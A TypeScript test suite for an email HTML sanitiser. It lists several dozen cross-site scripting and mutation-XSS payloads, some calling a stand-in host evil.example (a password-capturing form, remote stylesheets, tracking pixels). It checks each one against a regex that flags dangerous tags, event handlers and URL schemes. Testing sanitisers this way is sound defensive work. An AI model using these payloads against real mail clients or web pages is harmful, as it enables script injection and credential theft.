import fc from 'fast-check';
import { sanitise } from '../../service/mail/sanitising';

const clean = (html: string, allowImages = false) =>
  sanitise(html, { allowImages, inline: id => (id === 'logo@1' ? 'data:image/png;base64,AAAA' : null) });
const dangerous =
  /<(script|style|iframe|frame|object|embed|form|input|button|meta|base|link|svg|math|template|noscript|textarea)\b|\son\w+\s*=|javascript:|vbscript:|data:text|url\s*\(|expression\s*\(|@import/i;

describe('the HTML of a mail, as it is shown', () => {
  it.each([
    '<script>alert(1)</script>',
    '<SCRIPT/SRC=//evil.example/x.js></SCRIPT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<img src=x onerror=alert(1)>',
    '<img/src="x"/onerror="alert(1)">',
    '<body onload=alert(1)>',
    '<svg onload=alert(1)>',
    '<svg><script>alert&#40;1&#41;</script>',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    '<xmp><img title="</xmp><img src=x onerror=alert(1)>">',
    '<template><img src=x onerror=alert(1)></template>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;script:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<form action="https://evil.example"><input name=password><button>ok</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<style>@import "https://evil.example/x.css"; body{background:url(https://evil.example/p.gif)}</style>',
    '<p style="background:url(https://evil.example/p.gif)">x</p>',
    '<p style="background-color:red;background-image:url(\'https://evil.example/p\')">x</p>',
    '<p style="width:expression(alert(1))">x</p>',
    '<p style="font-family:\\75rl(https://evil.example)">x</p>',
    '<table background="https://evil.example/p.gif"><tr><td>x</td></tr></table>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%">login</div>',
    '<!--[if gte mso 9]><script>alert(1)</script><![endif]-->',
    '<![CDATA[<script>alert(1)</script>]]>',
    '<img src="cid:logo@1" onload="alert(1)">',
    '<a href="https://x.example" onclick="alert(1)" ping="https://evil.example">x</a>',
  ])('runs nothing and loads nothing: %s', attack => {
    for (const allowImages of [false, true]) {
      const { html } = clean(attack, allowImages);
      expect(html).not.toMatch(dangerous);
      expect(html).not.toMatch(/position\s*:|srcdoc|ping=|evil\.example\/(x\.css|p)/);
    }
  });

  it('keeps text, tables, colours and links; a link opens elsewhere and tells nobody where it was', () => {
    const { html } = clean(
      '<table width="100%" bgcolor="#eeeeee"><tr><td style="color:#ff0000;padding:3.0pt 0cm 0cm 0cm">Price <b>4.10</b></td></tr></table><a href="https://nordtex.example/x?a=1&amp;b=2">see</a>',
    );
    expect(html).toContain('<td style="color:#ff0000;padding:3.0pt 0cm 0cm 0cm">Price <b>4.10</b></td>');
    expect(html).toContain(
      '<a href="https://nordtex.example/x?a=1&amp;b=2" target="_blank" rel="noopener noreferrer">see</a>',
    );
  });

  it('leaves pictures from outside out until they are asked for, and says so', () => {
    const mail = '<p>hi</p><img src="https://track.example/p.gif" width="1" height="1">';
    expect(clean(mail)).toEqual({ html: '<p>hi</p>', hasBlockedImages: true });
    expect(clean(mail, true).html).toContain('src="https://track.example/p.gif"');
    expect(clean('<img src="//track.example/p.gif">').hasBlockedImages).toBe(true);
  });

  it('shows the pictures that came with the letter', () => {
    expect(clean('<img src="cid:logo%401" alt="logo">')).toEqual({
      html: '<img alt="logo" src="data:image/png;base64,AAAA" />',
      hasBlockedImages: false,
    });
    expect(clean('<img src="cid:other" alt="x">').html).toBe('<img alt="x" />');
  });

  it('is the same when it is cleaned again', () => {
    const piece = fc.constantFrom(
      '<b>',
      '</b>',
      '<p style="color:red">',
      '<a href="https://x.example">',
      '</a>',
      '<script>',
      '</script>',
      '<svg>',
      '<style>',
      '</style>',
      'text',
      '&lt;',
      '"',
      '<!--',
      '-->',
      '<img src=x onerror=y>',
      '<table><tr><td>',
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 20 }), pieces => {
        const once = clean(pieces.join('')).html;
        expect(once).not.toMatch(dangerous);
        expect(clean(once).html).toBe(once);
      }),
    );
  });

  it('comes to an end with a hundred thousand open tags', () => {
    expect(clean(`${'<a><font>'.repeat(50_000)}text`).html).toContain('text');
  });
});
